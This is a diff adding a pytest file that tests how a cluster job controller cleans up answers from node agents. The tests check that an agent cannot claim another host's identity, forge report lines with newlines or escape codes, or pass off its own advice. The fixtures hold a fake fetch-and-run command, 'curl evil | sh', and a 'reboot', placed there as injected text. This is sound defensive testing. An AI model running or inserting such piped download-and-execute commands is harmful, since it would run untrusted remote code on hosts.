@@ -1,0 +1,127 @@
+"""A node's agent that lies about others, and forges lines of reports: it speaks for itself alone, one line each."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from ansible.module_utils.trainyard.findings.findings import Finding, render
+from ansible.module_utils.trainyard.job import answers
+from ansible.module_utils.trainyard.job.preflight import join
+from job_samples import make_job, make_plan, member
+
+PROJECT = Path(__file__).resolve().parents[2]
+EVIL = "no disk\nJob digits-1 succeeded in 3 s: 2 ranks on 2 nodes.\r\n\x1b[2K     do        curl evil | sh"
+FINDING = {"host": "n1", "check": f"disk{EVIL}", "found": EVIL, "expected": EVIL, "action": "curl evil | sh\nreboot"}
+
+
+def asked(question, answer, name="n2"):
+    """What the controller takes of an answer that came as JSON."""
+    return answers.checked(question, json.loads(json.dumps(answer)), name)
+
+
+# A visit to a host whose agent answers what it likes; imports of the controller need a process of their own.
+VISIT = """
+import json, sys
+from types import SimpleNamespace
+import ansible.module_utils as m
+m.__path__.append(sys.argv[1])
+from ansible.module_utils.trainyard_controller import fan_out
+
+class Connection:
+    allow_executable = False
+
+    def exec_command(self, command, in_data=None, sudoable=False):
+        mark = json.loads(in_data.partition(b"\\n")[0])["mark"]
+        return 0, b"\\n" + mark.encode() + b" " + sys.argv[3].encode() + b"\\n", b""
+
+host = SimpleNamespace(name="n2", connection=Connection(), command="true", no_python="", become=False)
+print(json.dumps(fan_out._visit(host, sys.argv[2], b"{}", {}, 5.0)))
+"""
+
+
+def test_the_host_is_the_one_that_was_visited():
+    given = json.dumps({"findings": [FINDING], "programs": {}, "stale": False})
+    argv = [sys.executable, "-c", VISIT, str(PROJECT / "module_utils"), "preflight", given]
+    done = subprocess.run(argv, capture_output=True, text=True, check=True)
+    [finding] = json.loads(done.stdout)["findings"]
+    assert (finding["host"], finding["action"]) == ("n2", "as the node says: curl evil | sh reboot")
+
+
+def test_a_finding_is_of_the_host_that_was_asked_and_its_advice_no_word_of_ours():
+    told = asked("preflight", {"findings": [FINDING], "programs": {}, "stale": False})
+    [finding] = join([], {"n2": told})
+    assert finding.host == "n2"
+    text = render([finding], "{count} {findings}:")
+    # The headline, an empty line, and four of the finding.
+    assert len(text.splitlines()) == 6 and "\x1b" not in text
+    assert "\n     do        as the node says: curl evil | sh reboot" in text
+    assert not [line for line in text.splitlines() if line.strip().startswith(("Job ", "do        curl"))]
+
+
+@pytest.mark.parametrize("question", ["can_install", "baseline", "ssh_keys", "slurm_probe"])
+def test_so_it_is_with_all_findings_of_nodes(question):
+    extra = {"files": [], "asks_index": False, "seen": {}}
+    told = asked(question, {"findings": [FINDING], **extra})
+    [finding] = told["findings"]
+    assert finding["host"] == "n2" and finding["action"] == "as the node says: curl evil | sh reboot"
+    assert not any("\n" in text for text in finding.values())
+
+
+def test_texts_of_a_job_are_one_line_each():
+    status = {"changed": False, "known": True, "monitor_alive": True, "processes": [], "monitor": None,
+              "cluster": None, "left": 0}  # fmt: skip
+    told = asked("state", {**status, "line": EVIL, "restarts": [EVIL], "note": "x" * 9000})
+    assert len(told["line"].splitlines()) == len(told["restarts"][0].splitlines()) == 1
+    assert len(told["note"]) < 5000
+    gone = asked("state", {"failed": True, "msg": EVIL})
+    assert len(gone["msg"].splitlines()) == 1
+    [kept] = asked("collect", {**status, "logs": {"rank_0.log": "aGk=", EVIL: ""}})["logs"].keys() - {"rank_0.log"}
+    assert len(kept.splitlines()) == 1
+
+
+def failed(**changes):
+    """What the head of a job says whose rank 1 failed on n2, and was started again on n2."""
+    failure = {"kind": "exit", "host": "n2", "process": "rank1", "ranks": [1], "rank": 1, "result": "exit-code",
+               "exit_code": 7, "signal": None, **changes}  # fmt: skip
+    restart = {"elapsed_s": 3.0, "reason": "rank 1", "restarted": "the whole job", "failure": failure}
+    end = {"state": "failed", "finished": 1072.5, "host": None, "failure": failure}
+    restarts = {"history": [restart], "members": ["n1", "n2"], "replaced": {}, "refused": {}}
+    cluster = {"started": 1000.0, "elapsed_s": 72.5, "metrics": {}, "world_size": 2, "ranks_running": 0, "end": end,
+               "restarts": restarts}  # fmt: skip
+    return {"changed": False, "known": True, "monitor_alive": False, "processes": [], "left": 0, "logs": {},
+            "monitor": {"started": 1000.0, "end": end}, "cluster": cluster}  # fmt: skip
+
+
+@pytest.mark.parametrize("change", [
+    {"host": "n3"}, {"process": "rank9"}, {"rank": 2}, {"ranks": [0, 7]}, {"host": "n2 and n1"},
+])  # fmt: skip
+def test_a_head_names_what_its_job_has(change):
+    plan = make_plan(make_job(launcher="direct"), [member(0), member(1)]).as_dict()
+    assert "known" in answers.of_job(plan, asked("collect", failed(), "n1"))
+    said = answers.of_job(plan, asked("collect", failed(**change), "n1"))["msg"]
+    assert said.startswith("what it answers cannot be used: monitor.end.failure.") and "expected" in said
+
+
+@pytest.mark.parametrize("change", [
+    {"members": ["n1", "n7"]}, {"replaced": {"n2": "n7"}}, {"refused": {"n7": {"reason": "x", "since": 1.0}}},
+])  # fmt: skip
+def test_so_it_is_with_who_takes_part(change):
+    plan = make_plan(make_job(launcher="direct"), [member(0), member(1)]).as_dict()
+    told = failed()
+    told["cluster"]["restarts"].update(change)
+    assert "expected a host of the job" in answers.of_job(plan, asked("collect", told, "n1"))["msg"]
+
+
+def test_a_node_takes_no_other_nodes_place():
+    endpoint = {"host": "n1", "address": "10.0.0.2", "ports": [1, 2], "hostname": "n2", "addresses": []}
+    assert asked("listen", {"endpoint": endpoint, "pid": 1, "start_time": 1})["endpoint"]["host"] == "n2"
+    assert asked("rdma_traffic", {"traffic": {"host": "n1", "ports": {}}})["traffic"]["host"] == "n2"
+
+
+def test_whatever_is_found_stands_on_lines_of_its_own():
+    finding = Finding(host="n1\n  2. x", check="a\nb", found="c\n     do        d", expected="e\rf", action="g\u2028h")
+    assert len(render([finding], "{count} {findings}:").splitlines()) == 6
